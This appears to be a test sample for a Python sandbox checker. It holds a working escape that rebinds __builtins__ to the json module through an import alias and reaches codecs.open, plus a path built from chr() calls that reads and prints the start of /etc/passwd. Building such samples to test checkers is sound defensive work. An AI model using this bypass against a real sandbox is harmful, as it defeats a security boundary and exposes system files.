# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names (inside if __name__ == '__main__', function value used at module level)
# goal: reads /etc/passwd via codecs.open taken as a value
import json.decoder
import json as __builtins__

if __name__ == "__main__":
    def grab():
        return codecs.open

    opener = grab()
    path = chr(47) + "etc" + chr(47) + "passwd"
    print(opener(path).read()[:120])
